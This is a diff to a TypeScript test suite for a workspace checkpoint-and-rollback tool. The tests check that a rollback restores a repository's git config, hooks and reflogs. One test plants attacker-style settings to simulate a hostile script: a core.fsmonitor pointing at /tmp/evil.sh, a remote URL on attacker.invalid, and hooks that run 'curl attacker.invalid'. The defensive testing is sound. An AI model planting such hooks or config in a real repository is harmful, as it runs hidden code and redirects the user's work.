@@ -5,7 +5,7 @@
 import { execFileSync } from 'node:child_process';
 import { createHash, randomBytes } from 'node:crypto';
 import { deflateSync } from 'node:zlib';
-import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { listCheckpoints } from '../../../src/checkpoints/checkpoint-list';
 import { keptRefs } from '../../../src/checkpoints/keep-git-history';
@@ -217,7 +217,9 @@ test('a repository over checkpoints.max_git_mb: its history is not kept (a warni
   expect(outcome.checkpoint.git).toMatchObject({ refs: 0 });
   expect(outcome.checkpoint.changed.files).toEqual(['notes.txt']);
   expect(await refsKept(outcome.checkpoint.id)).toEqual({});
-  expect(readdirSync(path.join(shadowRepositoryFor(home, workspace).gitDirectory, 'objects/pack')).filter((file) => file.endsWith('.pack')).length).toBeLessThanOrEqual(1);
+  // The files' pack, and the small one of the .git's config and hooks: not the repository's 3 MB.
+  const packs = readdirSync(path.join(shadowRepositoryFor(home, workspace).gitDirectory, 'objects/pack')).filter((file) => file.endsWith('.pack'));
+  expect(packs.reduce((sum, file) => sum + statSync(path.join(shadowRepositoryFor(home, workspace).gitDirectory, 'objects/pack', file)).size, 0)).toBeLessThan(1024 * 1024);
   expect(shadowHas(userGit(['rev-parse', 'HEAD']))).toBe(false);
   // The refs unchanged, the next turns take no new checkpoint for it.
   expect((await checkpoint({ ...LIMITS, maxGitBytes: 1024 * 1024 })).kind).toBe('unchanged');
@@ -247,6 +249,8 @@ test("a compaction of the store neither has the repository's packs read again no
   userGit(['checkout', '-q', 'main']);
   userGit(['gc', '-q']);
   userGit(['branch', '-q', '-D', 'tmp']);
+  // Nor does a reflog name it (one would keep it).
+  userGit(['reflog', 'expire', '--expire=now', '--all']);
   const { checkpoint: first } = await taken();
   expect(Object.keys(await refsKept(first.id))).toEqual(['refs/heads/main']);
 
@@ -350,6 +354,8 @@ test('a repository nested in the workspace has its history kept and put back too
   rmSync(path.join(nested, '.git/refs'), { recursive: true });
   const result = await rollbackWorkspace(shadowRepositoryFor(home, workspace), first, { sessionId: 'operator', limits: LIMITS });
   expect(result.histories.map((history) => history.repository)).toEqual(['', 'vendor/lib']);
+  // The workspace's own namespace holds the nested one's below it: none of its refs is written into the workspace's .git.
+  expect(existsSync(path.join(workspace, '.git/nested'))).toBe(false);
   expect(userGit(['log', '--format=%s'], nested)).toBe('nested, unpushed');
   expect(userGit(['log', '--format=%s', '-1'])).toBe('unpushed work');
 });
@@ -392,4 +398,67 @@ test("a submodule's repository (in .git/modules, its folder holding only a .git 
   expect(userGit(['log', '--format=%s', '-2'], submodule)).toBe('more submodule work\nsubmodule work, unpushed');
   userGit(['fsck', '--no-dangling'], submodule);
   expect(userGit(['submodule', 'status'])).toContain('libs/core');
+});
+
+test("a rollback puts back the repository's config, hooks and reflogs as the checkpoint found them, and removes a hook planted since", async () => {
+  repositoryWithHistory();
+  // A commit only the reflog still names: amended away.
+  const amended = commitFile('c.txt', 'draft\n', 'draft');
+  userGit(['commit', '-q', '--amend', '-m', 'final']);
+  userGit(['config', 'remote.origin.url', 'https://example.invalid/user/thesis.git']);
+  writeFileSync(path.join(workspace, '.git/hooks/pre-commit'), '#!/bin/sh\nexec ./lint\n', { mode: 0o755 });
+  const config = readFileSync(path.join(workspace, '.git/config'), 'utf8');
+  const reflog = readFileSync(path.join(workspace, '.git/logs/HEAD'), 'utf8');
+  expect(reflog).toContain(amended);
+  const { checkpoint: first } = await taken();
+  expect(first.git).toMatchObject({ files: expect.any(Number) });
+
+  // What a model's script can do: git runs its program on the user's next command, pushes elsewhere, and the way back to the draft is gone.
+  userGit(['config', 'core.fsmonitor', '/tmp/evil.sh']);
+  userGit(['config', 'core.hooksPath', '/tmp/hooks']);
+  userGit(['config', 'remote.origin.url', 'https://attacker.invalid/x.git']);
+  writeFileSync(path.join(workspace, '.git/hooks/pre-commit'), '#!/bin/sh\ncurl attacker.invalid\n');
+  writeFileSync(path.join(workspace, '.git/hooks/post-checkout'), '#!/bin/sh\ncurl attacker.invalid\n', { mode: 0o755 });
+  rmSync(path.join(workspace, '.git/logs'), { recursive: true });
+  rmSync(path.join(workspace, '.git/objects'), { recursive: true });
+
+  const result = await rollbackWorkspace(shadowRepositoryFor(home, workspace), first, { sessionId: 'operator', limits: LIMITS });
+  expect(result.histories[0]?.files).toEqual(expect.arrayContaining(['config', 'hooks/pre-commit', 'logs/HEAD', 'logs/refs/heads/main']));
+  expect(result.histories[0]?.removed).toEqual(['hooks/post-checkout']);
+  expect(readFileSync(path.join(workspace, '.git/config'), 'utf8')).toBe(config);
+  expect(readFileSync(path.join(workspace, '.git/hooks/pre-commit'), 'utf8')).toBe('#!/bin/sh\nexec ./lint\n');
+  expect(statSync(path.join(workspace, '.git/hooks/pre-commit')).mode & 0o100).toBe(0o100);
+  expect(existsSync(path.join(workspace, '.git/hooks/post-checkout'))).toBe(false);
+  expect(readFileSync(path.join(workspace, '.git/logs/HEAD'), 'utf8')).toBe(reflog);
+  // The reflog's commits came back with the refs': the draft is there to go back to.
+  expect(userGit(['log', '-1', '--format=%s', 'HEAD@{1}'])).toBe('draft');
+  userGit(['fsck', '--no-dangling']);
+
+  // The rollback's own checkpoint kept what it found: undoing it brings the planted hook back.
+  const undone = await rollbackWorkspace(shadowRepositoryFor(home, workspace), result.undo, { sessionId: 'operator', limits: LIMITS });
+  expect(undone.histories[0]?.files).toEqual(expect.arrayContaining(['hooks/post-checkout']));
+  expect(userGit(['config', 'core.fsmonitor'])).toBe('/tmp/evil.sh');
+});
+
+test("a change to the config alone takes a new checkpoint; a link in .git/hooks or .git/logs is not followed", async () => {
+  repositoryWithHistory();
+  const { checkpoint: first } = await taken();
+  expect((await checkpoint()).kind).toBe('unchanged');
+  userGit(['config', 'core.fsmonitor', '/tmp/evil.sh']);
+  const second = await taken();
+  expect(second.checkpoint.id).toBe(first.id + 1);
+
+  const elsewhere = tempDir('history-elsewhere-');
+  writeFileSync(path.join(elsewhere, 'secret'), 'the user\'s secret\n');
+  symlinkSync(path.join(elsewhere, 'secret'), path.join(workspace, '.git/hooks/linked'));
+  symlinkSync(elsewhere, path.join(workspace, '.git/logs/refs/linked'));
+  const third = await taken();
+  const files = shadowGit(['ls-tree', '-r', '--name-only', `refs/hermes/${String(third.checkpoint.id).padStart(8, '0')}/hermes-git-files`]).split('\n');
+  expect(files).not.toContain('hooks/linked');
+  expect(files.some((name) => name.startsWith('logs/refs/linked'))).toBe(false);
+  expect(third.checkpoint.git?.filesLeftOut).toBeGreaterThanOrEqual(1);
+  // Rolled back, the link (a hook the checkpoint did not have) goes; what it pointed at stays.
+  await rollbackWorkspace(shadowRepositoryFor(home, workspace), second.checkpoint, { sessionId: 'operator', limits: LIMITS });
+  expect(existsSync(path.join(workspace, '.git/hooks/linked'))).toBe(false);
+  expect(readFileSync(path.join(elsewhere, 'secret'), 'utf8')).toBe('the user\'s secret\n');
 });
